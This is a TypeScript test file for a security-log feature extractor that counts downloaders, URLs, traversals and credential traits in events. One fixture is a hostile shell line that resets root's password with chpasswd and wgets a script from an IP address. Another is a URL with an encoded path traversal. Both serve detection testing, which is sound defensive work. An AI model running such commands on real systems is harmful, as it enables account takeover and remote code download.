import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { EventValue } from '#src/data/index.js';
import { describeFeatures, fitFeatures, inputKindOf, resolveFeatures } from '#src/features/index.js';
import { EVENT_SCHEMA, WEEK6_SCHEMA } from '#src/ingest/index.js';
import { eventOf } from './events.js';

const NEW = describeFeatures().filter((f) => f.set === 'event-form');

/** The values of features of one event by name, categories as text. */
function read(fields: Readonly<Record<string, EventValue>>, names = NEW.map((f) => f.name)) {
  const event = eventOf(fields);
  const pipeline = fitFeatures([event], { schema: EVENT_SCHEMA, features: names });
  const { values } = pipeline.transform([event]);
  return Object.fromEntries(
    pipeline.features.map(({ name, categories }, j) => {
      const value = values[j]!;
      return [name, Number.isNaN(value) ? null : (categories?.[value] ?? value)];
    }),
  );
}

describe('features of the event form', () => {
  it('read the command line, secrets as characters of their own', () => {
    const values = read({
      'process.command_line':
        'echo -e root:[redacted:8:0123456789abcdef]|chpasswd; WGET http://192.0.2.9/a.sh',
    });
    expect(values).toMatchObject({
      command_length: 58,
      command_tokens: 5,
      command_longest_token: 23,
      command_shell_verbs: 2,
      command_downloaders: 1,
      command_operators: 2,
      command_urls: 1,
      command_addresses: 1,
      command_hex_runs: 0,
      command_digit_ratio: Math.fround(6 / 58),
      command_uppercase_ratio: Math.fround(4 / 58),
    });
  });

  it('read the URL', () => {
    expect(read({ 'url.original': 'http://192.0.2.9/x/..%2fa.php?q=1&r=%41' })).toMatchObject({
      url_length: 39,
      url_depth: 2,
      url_query_parameters: 2,
      url_percent_escapes: 2,
      url_traversals: 1,
      url_extension: 'page',
      url_host_is_address: 1,
    });
  });

  it('read the shape of a credential, the port and the client', () => {
    const fields = {
      'credential.length': 8,
      'credential.digits': 1,
      'credential.letters': 6,
      'credential.uppercase': 2,
      'credential.specials': 1,
      'credential.entropy': 2.75,
      'credential.is_user': 0,
      'user.name': 'root',
      'destination.port': 2222,
      'source.port': 50_000,
      'network.transport': 'TCP',
      'event.category': 'authentication',
      'ssh.client.hassh': 'ABC',
      'ssh.client.version': 'SSH-2.0-libssh2_1.4.3',
      'tls.version': 'TLSv1.2',
      'tls.client.ja3': 'DEF',
      'user_agent.original': 'curl/8.5',
    };
    expect(read(fields)).toMatchObject({
      credential_length: 8,
      credential_digits: 1,
      credential_letters: 6,
      credential_uppercase: 2,
      credential_specials: 1,
      credential_entropy: 2.75,
      credential_is_user: 0,
      user_length: 4,
      user_class: 'superuser',
      port_class: 'registered',
      port_service: 'ssh',
      source_port_class: 'dynamic',
      transport: 'tcp',
      category: 'authentication',
      ssh_fingerprint: 'abc',
      ssh_client: 'SSH-2.0-libssh2_1.4.3',
      ssh_software: 'libssh2',
      tls_version: 'tlsv1.2',
      tls_fingerprint: 'def',
      user_agent_family: 'curl',
    });
  });

  it.each([
    ['2026-01-12T00:00:00Z', 0, 1, 0],
    ['2026-01-14T06:00:00Z', 1, 0, 2],
    ['2026-01-18T12:00:00Z', 0, -1, 6],
    ['1969-12-31T18:00:00Z', -1, 0, 2],
  ])('read the time of day of %s', (time, sine, cosine, weekday) => {
    const values = read({ '@timestamp': Date.parse(time) }, ['hour_sin', 'hour_cos', 'weekday']);
    expect(values['hour_sin']).toBeCloseTo(sine, 6);
    expect(values['hour_cos']).toBeCloseTo(cosine, 6);
    expect(values['weekday']).toBe(weekday);
  });

  it('take what is not there as missing, but counts of text as 0', () => {
    const values = read({});
    for (const { name, mayBeMissing } of NEW)
      expect([name, values[name]]).toEqual([name, mayBeMissing ? null : 0]);
    const missing = NEW.filter((f) => f.type === 'numeric' && f.mayBeMissing).map((f) => f.name);
    expect(missing).toEqual([
      ...['length', 'digits', 'letters', 'uppercase', 'specials', 'entropy', 'is_user'].map(
        (n) => `credential_${n}`,
      ),
      ...['hour_sin', 'hour_cos', 'weekday'],
    ]);
  });

  it('count what is no value of theirs as invalid', () => {
    const fields = { 'credential.length': 1e300, 'credential.digits': 'many', '@timestamp': '2026-01-12' };
    const names = ['credential_length', 'credential_digits', 'hour_sin'];
    const pipeline = fitFeatures([], { schema: EVENT_SCHEMA, features: names });
    const matrix = pipeline.transform([eventOf(fields)]);
    expect([...matrix.values]).toEqual([Number.NaN, Number.NaN, Number.NaN]);
    expect(matrix.invalid).toEqual({ credential_length: 1, credential_digits: 1, hour_sin: 1 });
  });

  it('do not depend on the events before', () => {
    const text = fc.option(fc.constantFrom('wget a', 'rm', '', '/a/b?c', 'x'));
    const event = fc
      .record({ 'process.command_line': text, 'url.original': text, 'user_agent.original': text })
      .map((fields) => eventOf(fields));
    fc.assert(
      fc.property(fc.array(event, { minLength: 1, maxLength: 6 }), (events) => {
        const pipeline = fitFeatures(events, { schema: EVENT_SCHEMA, features: NEW.map((f) => f.name) });
        const alone = [...events].reverse().map((one) => [...pipeline.transform([one]).values]);
        expect([...pipeline.transform(events).values]).toEqual(alone.reverse().flat());
      }),
      { numRuns: 100 },
    );
  });

  it('are finite or missing, whatever the fields hold', () => {
    const value = fc.option(fc.oneof(fc.string({ unit: 'binary' }), fc.double(), fc.integer()));
    const names = [...new Set(NEW.flatMap((f) => f.columns))];
    fc.assert(
      fc.property(fc.record(Object.fromEntries(names.map((name) => [name, value]))), (fields) => {
        const event = eventOf(fields as Record<string, EventValue>);
        const pipeline = fitFeatures([event], { schema: EVENT_SCHEMA, features: NEW.map((f) => f.name) });
        const { values } = pipeline.transform([event]);
        NEW.forEach(({ name, mayBeMissing, isInteger }, j) => {
          const isFine = Number.isNaN(values[j]!) ? mayBeMissing : Number.isFinite(values[j]!);
          expect([name, isFine]).toEqual([name, true]);
          if (isInteger && !mayBeMissing) expect(Number.isInteger(values[j]!)).toBe(true);
        });
      }),
      { numRuns: 100 },
    );
  });
});

describe('all', () => {
  const names = (schema: typeof EVENT_SCHEMA) => resolveFeatures('all', schema).map((f) => f.name);

  it('of week 6 has none of them, and any of them may be named', () => {
    expect(names(WEEK6_SCHEMA)).toEqual(
      describeFeatures().flatMap((f) => (f.set === 'every-log' ? [f.name] : [])),
    );
    expect(resolveFeatures(['url_entropy', 'weekday'], WEEK6_SCHEMA)).toHaveLength(2);
  });

  it('of the event form has all of them, behind the others', () => {
    expect(names(EVENT_SCHEMA)).toEqual(describeFeatures().map((f) => f.name));
    expect(names(EVENT_SCHEMA).slice(26)).toEqual(NEW.map((f) => f.name));
  });

  it('has none that reads a label, an outcome or an identifier, and of the time only what comes again', () => {
    const roles = new Map(EVENT_SCHEMA.map(({ name, role }) => [name, role]));
    for (const { name, columns } of describeFeatures())
      for (const column of columns)
        expect([name, roles.get(column)]).toEqual([name, column === '@timestamp' ? 'time' : 'feature']);
  });
});

it('no feature has the name of a field, so rows and events are told apart', () => {
  const fields = EVENT_SCHEMA.map(({ name }) => name);
  expect(NEW.map((f) => f.name).filter((name) => fields.includes(name))).toEqual([]);
  const row = Object.fromEntries(NEW.map((f) => [f.name, 0]));
  expect(inputKindOf([row], undefined)).toBe('rows');
});
